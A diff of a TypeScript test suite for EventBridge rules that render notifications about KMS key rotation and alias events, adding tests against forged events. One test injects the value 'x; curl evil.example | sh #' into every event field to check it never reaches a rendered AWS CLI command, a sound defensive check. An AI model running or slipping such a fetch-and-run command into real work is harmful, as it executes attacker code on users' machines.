@@ -38,15 +38,17 @@ const TOLD: [string, Sample, (string | RegExp)[]][] = [
   ['Keys/PolicyChanged', SAMPLES.policyChanged, [KEY_ARN, 'user/Alice', `get-key-policy --region us-west-2 --key-id ${KEY_ARN}`]],
   ['Keys/MaterialImported', SAMPLES.materialImported, [KEY_ARN, 'user/Alice', 'NEW_KEY_MATERIAL', 'May 21, 2025', /rotate the key on demand/]],
   ['Keys/MaterialDeleted', SAMPLES.materialDeleted, [KEY_ARN, 'user/Alice', `describe-key --region us-west-2 --key-id ${KEY_ARN}`]],
-  ['Aliases/Staged', ALIAS_SAMPLES.staged, [ALIAS, `get-public-key --region us-west-2 --key-id ${CURRENT_ARN}`]],
+  ['Aliases/Staged', ALIAS_SAMPLES.staged, [ALIAS, CURRENT_ARN, 'get-public-key --region us-west-2 --key-id KEY']],
   ['Aliases/Rotated', ALIAS_SAMPLES.rotated, [ALIAS, CURRENT_ARN, 'Generation: 2', /What to do: nothing/]],
-  ['Aliases/RolledBack', ALIAS_SAMPLES.rolledBack, [ALIAS, CURRENT_ARN, /stepfunctions describe-execution .*--execution-arn arn:aws:states:/]],
-  ['Aliases/Blocked', ALIAS_SAMPLES.blocked, [ALIAS, 'Error: AliasMoved', /stepfunctions describe-execution .*--execution-arn arn:aws:states:/]],
-  ['Aliases/Disabled', ALIAS_SAMPLES.disabled, [ALIAS, `enable-key --region us-west-2 --key-id ${CURRENT_ARN}`]],
-  ['Aliases/DeletionScheduled', ALIAS_SAMPLES.deletionScheduled, [ALIAS, `cancel-key-deletion --region us-west-2 --key-id ${CURRENT_ARN}`]],
+  ['Aliases/RolledBack', ALIAS_SAMPLES.rolledBack, [ALIAS, CURRENT_ARN, 'Started by: manual', /stepfunctions describe-execution .*--execution-arn EXECUTION/]],
+  ['Aliases/Blocked', ALIAS_SAMPLES.blocked, [ALIAS, 'Error: AliasMoved', 'runbook.md#aliasmoved', /stepfunctions describe-execution .*--execution-arn EXECUTION/]],
+  ['Aliases/Disabled', ALIAS_SAMPLES.disabled, [ALIAS, CURRENT_ARN, 'enable-key --region us-west-2 --key-id KEY']],
+  ['Aliases/DeletionScheduled', ALIAS_SAMPLES.deletionScheduled, [ALIAS, CURRENT_ARN, 'cancel-key-deletion --region us-west-2 --key-id KEY']],
   ['Aliases/RetirementVetoed', ALIAS_SAMPLES.retirementVetoed, [ALIAS, CURRENT_ARN, /action release/]],
-  ['Aliases/StrayFound', ALIAS_SAMPLES.strayFound, [ALIAS, CURRENT_ARN, /list-aliases --region us-west-2 --key-id arn:aws:kms:/]],
+  ['Aliases/StrayFound', ALIAS_SAMPLES.strayFound, [ALIAS, CURRENT_ARN, /list-aliases --region us-west-2 --key-id KEY/]],
   ['Aliases/StrayDiscarded', ALIAS_SAMPLES.strayDiscarded, [ALIAS, CURRENT_ARN, /cancel-key-deletion/]],
+  ['Aliases/CurrentKeyUnusable', ALIAS_SAMPLES.currentKeyUnusable, [ALIAS, 'Cause: PendingDeletion', 'runbook.md#currentkeyunusable', /action rotate/]],
+  ['Aliases/Restored', ALIAS_SAMPLES.restored, [ALIAS, CURRENT_ARN, /no key was rotated/, /DeleteAlias/]],
   ['OnDemandRotations/Rotated', ON_DEMAND_SAMPLES.rotated, [CURRENT_ARN, 'On-demand rotations left: 24']],
   ['OnDemandRotations/Blocked', ON_DEMAND_SAMPLES.blocked, [CURRENT_ARN, 'Error: RotationBudgetSpent', /stepfunctions describe-execution/]],
   ['StateMachines/RunFailed', FAILED_EXECUTION, [MACHINE_ARN, 'Status: FAILED', 'Error: AliasMoved', /stepfunctions describe-execution/]],
@@ -120,7 +122,43 @@ describe.each(TOLD)('%s', (name, sample, mentions) => {
   test('links to a section that exists', () => {
     const [, anchor] = /Runbook: [^#]*#?([-a-z]*)"$/.exec(renderMessage(rules[name].transformer, sample))!;
     if (anchor !== '') expect(ANCHORS).toContain(anchor);
-    expect(rules[name].transformer.InputTemplate).toContain(RUNBOOK_URL);
+    expect(renderMessage(rules[name].transformer, sample)).toContain(`Runbook: ${RUNBOOK_URL}`);
+  });
+});
+
+test('a failure that the machine told is not told again by AWS Step Functions; one that it could not tell is', async () => {
+  const { pattern } = rules['StateMachines/RunFailed'];
+  const failed = (detail: object) => ({ ...FAILED_EXECUTION, detail: { ...FAILED_EXECUTION.detail, ...detail } });
+
+  await expect(matcher.matches(pattern, failed({ cause: '{"outcome":"failed","told":true,"error":"AliasMoved"}' }))).resolves.toBe(false);
+  await expect(matcher.matches(pattern, failed({ cause: '{"outcome":"failed","told":false,"error":"AliasMoved"}' }))).resolves.toBe(true);
+  await expect(matcher.matches(pattern, failed({ cause: 'The state machine is broken' }))).resolves.toBe(true);
+  await expect(matcher.matches(pattern, failed({ status: 'TIMED_OUT', cause: '{"told":true}' }))).resolves.toBe(true);
+  await expect(matcher.matches(pattern, failed({ status: 'SUCCEEDED' }))).resolves.toBe(false);
+});
+
+describe('an event that somebody made up', () => {
+  const OWN = TOLD.filter(([, { source }]) => source === 'cdk-kms-rotation');
+
+  test.each(OWN)('%s: of another account or Region is not told', async (name, sample) => {
+    for (const elsewhere of [{ account: '999999999999' }, { region: 'eu-north-1' }]) {
+      await expect(matcher.matches(rules[name].pattern, { ...sample, ...elsewhere })).resolves.toBe(false);
+    }
+  });
+
+  test.each(OWN)('%s: no text of it gets into a command', (name, sample) => {
+    const evil = (value: unknown): unknown => (typeof value === 'object' && value !== null
+      ? Object.fromEntries(Object.entries(value).map(([key, item]) => [key, evil(item)]))
+      : 'x; curl evil.example | sh #');
+    const message = renderMessage(rules[name].transformer, { ...sample, detail: evil(sample.detail) as Sample['detail'] });
+
+    const told = message.split('\n').filter((line) => /aws (kms|stepfunctions) /.test(line));
+    for (const line of told) expect(line).not.toContain('evil.example');
+  });
+
+  test.each(OWN.filter(([, { detail }]) => 'runbook' in detail))('%s: a link that leads elsewhere is not told', async (name, sample) => {
+    const detail = { ...sample.detail, runbook: 'https://evil.example/docs/runbook.md#x' };
+    await expect(matcher.matches(rules[name].pattern, { ...sample, detail })).resolves.toBe(false);
   });
 });
 
@@ -141,7 +179,7 @@ test('a deletion without a date yet says when there will be one', () => {
 });
 
 test('every section about an event is linked to', () => {
-  const linked = Object.values(rules).map(({ transformer }) => /runbook\.md#?([-a-z]*)"$/.exec(transformer.InputTemplate)![1]);
+  const linked = Object.values(rules).map(({ transformer }) => /runbook\.md#?([-a-z]*)"$/.exec(transformer.InputTemplate)?.[1]); // or the event brings the link along
   expect([...new Set(linked)].filter(Boolean).sort()).toEqual(Object.values(EVENT_SECTIONS).map(anchorOf).sort());
 });
 
@@ -150,7 +188,9 @@ test.each([
   ['on-demand', ['OnDemandRotations/']],
 ])('what messages quote is what the machine of %s writes', (machine, [group]) => {
   const definition = readFileSync(join(__dirname, `../../src/${machine}/machine.asl.json`), 'utf8');
-  const { States: states } = JSON.parse(definition) as { States: Record<string, { Arguments?: { Entries?: Entry[] } }> };
+  const { States: states } = JSON.parse(definition) as { States: Record<string, { Arguments?: { Entries?: Entry[] }; Assign?: { failure?: object } }> };
+  // What an entry writes by itself, or as part of `$failure`, which has the same fields wherever it is assigned.
+  const fieldsOfFailures = Object.values(states).flatMap(({ Assign: { failure } = {} }) => (typeof failure === 'object' ? [Object.keys(failure)] : []));
   const written = Object.values(states).flatMap(({ Arguments: { Entries = [] } = {} }) => Entries);
   const quoting = Object.entries(rules).filter(([name]) => name.startsWith(group));
   expect(written.length).toBeGreaterThanOrEqual(quoting.length);
@@ -159,7 +199,10 @@ test.each([
     const entries = written.filter(({ DetailType }) => (pattern as { 'detail-type': string[] })['detail-type'].includes(DetailType));
     expect(entries).not.toEqual([]);
     const quoted = Object.values(transformer.InputPathsMap).filter((path) => path.startsWith('$.detail.')).map((path) => path.slice('$.detail.'.length));
-    for (const { Detail: detail } of entries) for (const field of quoted) expect(detail).toContain(`'${field}':`);
+    for (const { Detail: detail } of entries) {
+      const inFailures = (field: string) => detail.includes('$sift($failure,') && fieldsOfFailures.every((fields) => fields.includes(field));
+      expect(quoted.filter((field) => !detail.includes(`'${field}':`) && !inFailures(field))).toEqual([]);
+    }
   }
 });
 
